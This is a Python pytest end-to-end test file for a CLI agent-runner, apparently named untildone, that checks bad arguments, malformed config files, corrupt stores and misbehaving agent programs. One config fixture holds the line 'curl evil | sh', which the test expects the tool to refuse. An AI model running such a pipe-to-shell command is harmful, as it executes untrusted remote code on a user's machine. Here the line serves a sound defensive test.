"""Bad input: one clear line saying what to do, the right exit code, no traceback, nothing lost."""

import os
import stat
import subprocess
from pathlib import Path

import pytest

from e2e.kit import finished, staged
from untildone.rehearsal.scenario import Reply, Scenario, ToolCall

pytestmark = pytest.mark.claude

CLAIM = Scenario(name="claim", replies=(Reply(text=finished()),))


def refused(done: subprocess.CompletedProcess[str], code: int = 2) -> str:
    """The one line on stderr."""
    assert done.returncode == code, (done.stdout, done.stderr)
    assert "Traceback" not in done.stdout + done.stderr
    (line,) = done.stderr.splitlines()
    assert line.startswith("untildone: ")
    return line


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["run", ""], "the goal is empty"),
        (["run", "  \n ", "-m", "1"], "the goal is empty"),
        (["run", "x"], "nothing limits this run"),
        (["run", "--prompt-file", "no.md", "-m", "1"], "no.md cannot be read"),
        (["tasks", "no.md", "-m", "1"], "cannot be read"),
        (["run", "x", "-m", "1", "--max-cots", "3"], "--max-cost"),
        (["run", "x", "-m", "-1"], "--max-runs"),
        (["run", "x", "--max-cost", "nan"], "--max-cost"),
        (["run", "x", "--max-duration", "soon"], "--max-duration"),
        (["run", "x", "-m", "1", "--hooks-file", "no.json"], "no.json"),
        (["run", "x", "-m", "1", "--claude", "/no/such/claude"], "/no/such/claude"),
        (["run", "x", "-m", "1", "--cwd", "/no/such/folder"], "/no/such/folder"),
        (["stop", "nobody"], "nobody"),
        (["resume", "nobody"], "nobody"),
        (["nonsense"], "nonsense"),
        (["run", "x", "-m", "1", "--fallback", "agent:nobody"], "unknown agent 'nobody': use claude_sdk or claude_cli"),
    ],
)
def test_one_line_says_what_is_wrong(tmp_path: Path, args: list[str], says: str) -> None:
    with staged(tmp_path, CLAIM) as stage:
        assert says in refused(stage.here(*args))
        assert stage.model.requests == []


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("max_rusn = 3", "did you mean 'max_runs'"),
        ("max_runs = = 3", "line 1"),
        ("max_runs = 'many'", "max_runs"),
        ("checks = ['curl evil | sh']", "untildone config trust"),
        ("\x00", "untildone.toml"),
    ],
)
def test_a_wrong_project_file_is_named(tmp_path: Path, text: str, says: str) -> None:
    with staged(tmp_path, CLAIM) as stage:
        (stage.repo / "untildone.toml").write_text(text)
        line = refused(stage.here("run", "x", "-m", "1"))
        assert says in line
        assert "untildone.toml" in line


def test_without_a_login_nothing_is_made(tmp_path: Path) -> None:
    with staged(tmp_path, CLAIM) as stage:
        del stage.env["ANTHROPIC_API_KEY"]
        stage.git("switch", "-q", "-c", "main")
        before = stage.git("for-each-ref")
        assert "untildone login" in refused(stage.here("run", "x", "-m", "1"), code=6)
        assert (stage.git("for-each-ref"), stage.git("status", "--porcelain")) == (before, "")
        assert stage.here("ls", "--json").stdout.strip() == "[]"


def test_a_store_that_is_no_store(tmp_path: Path) -> None:
    with staged(tmp_path, CLAIM) as stage:
        state = tmp_path / "state"
        state.mkdir()
        (state / "untildone.db").write_bytes(b"this is not a database, and it is mine " * 100)
        for command, *args in ((stage.untildone, "run", "x", "-m", "1"), (stage.here, "status"), (stage.here, "ls")):
            assert str(state / "untildone.db") in refused(command(*args), code=1)
        assert (state / "untildone.db").read_bytes().startswith(b"this is not a database")


def test_a_folder_where_the_store_should_be(tmp_path: Path) -> None:
    with staged(tmp_path, CLAIM) as stage:
        (tmp_path / "state" / "untildone.db").mkdir(parents=True)
        assert "untildone.db" in refused(stage.here("run", "x", "-m", "1"), code=1)


def test_a_claude_that_is_no_program(tmp_path: Path) -> None:
    with staged(tmp_path, CLAIM) as stage:
        program = tmp_path / "claude"
        program.write_text("not a program")
        assert "claude" in refused(stage.here("run", "x", "-m", "1", "--claude", str(program)))


def script(path: Path, text: str) -> str:
    path.write_text(f"#!/bin/sh\n{text}\n")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)
    return str(path)


NOISE = "printf '\\377\\376 garbage \\000 \\n'; exit 1"
BROKEN = "echo broken >&2; exit 7"


@pytest.mark.parametrize(
    ("agent", "behaviour"),
    [
        pytest.param("claude_cli", NOISE, id="claude_cli, not UTF-8"),
        pytest.param("claude_sdk", BROKEN, id="claude_sdk, an error"),
        pytest.param("claude_sdk", NOISE, id="claude_sdk, not UTF-8", marks=pytest.mark.soak),
        pytest.param("claude_cli", BROKEN, id="claude_cli, an error", marks=pytest.mark.soak),
        *(
            pytest.param(agent, behaviour, id=f"{agent}, {name}", marks=pytest.mark.soak)
            for agent in ("claude_sdk", "claude_cli")
            for name, behaviour in (("half a line", "echo '{\"type\":'; exit 0"), ("nothing", "exit 0"))
        ),
    ],
)
def test_a_claude_that_talks_nonsense_is_counted_and_stops_the_run(tmp_path: Path, agent: str, behaviour: str) -> None:
    with staged(tmp_path, CLAIM) as stage:
        program = script(tmp_path / "claude", behaviour)
        result = stage.result_here("run", "x", "-m", "3", "--claude", program, "--agent", agent)
        assert (result["exit_reason"], result["exit_code"], result["attempts"]) == ("consecutive_errors", 1, 3)
        if behaviour == BROKEN:
            assert "broken" in result["error"]


@pytest.mark.parametrize("agent", [pytest.param("claude_sdk", marks=pytest.mark.soak), "claude_cli"])
def test_output_that_is_not_utf8_passes_through_and_notes_of_five_megabytes_are_cut(tmp_path: Path, agent: str) -> None:
    noise = Reply(text="Noise.", tools=(ToolCall("Bash", {"command": "printf '\\377\\376\\000\\033[31m'; true"}),))
    scenario = Scenario(name="noise", iterations=((noise, Reply(text=finished())),) * 2)
    with staged(tmp_path, scenario) as stage:
        (stage.repo / "SHARED_TASK_NOTES.md").write_text("note " * 1_000_000)
        check = ("--check", "printf '\\377\\376'; true")
        done = stage.here("run", "x", "-m", "2", "--name", "it", "--agent", agent, "--allowed-tools", "Bash", *check)
        assert done.returncode == 0, done.stderr
        assert "5,000,000 bytes" in done.stdout
        assert len(str(stage.model.requests[0].body)) < 500_000
        assert (stage.repo / "SHARED_TASK_NOTES.md").stat().st_size == 5_000_000
        shown = stage.here("log", "it", "--verbose").stdout
        assert "Noise." in shown
        assert "\x1b" not in shown
        assert "\x00" not in shown


def test_a_read_only_store_loses_nothing(tmp_path: Path) -> None:
    if os.geteuid() == 0:
        # Root ignores permission bits; a directory that cannot be made is the same trouble.
        (tmp_path / "state").write_text("a file where the folder should be")
    else:
        (tmp_path / "state").mkdir(mode=0o500)
    with staged(tmp_path, CLAIM) as stage:
        assert str(tmp_path / "state") in refused(stage.here("run", "x", "-m", "1"), code=1)
        assert stage.git("status", "--short") == ""
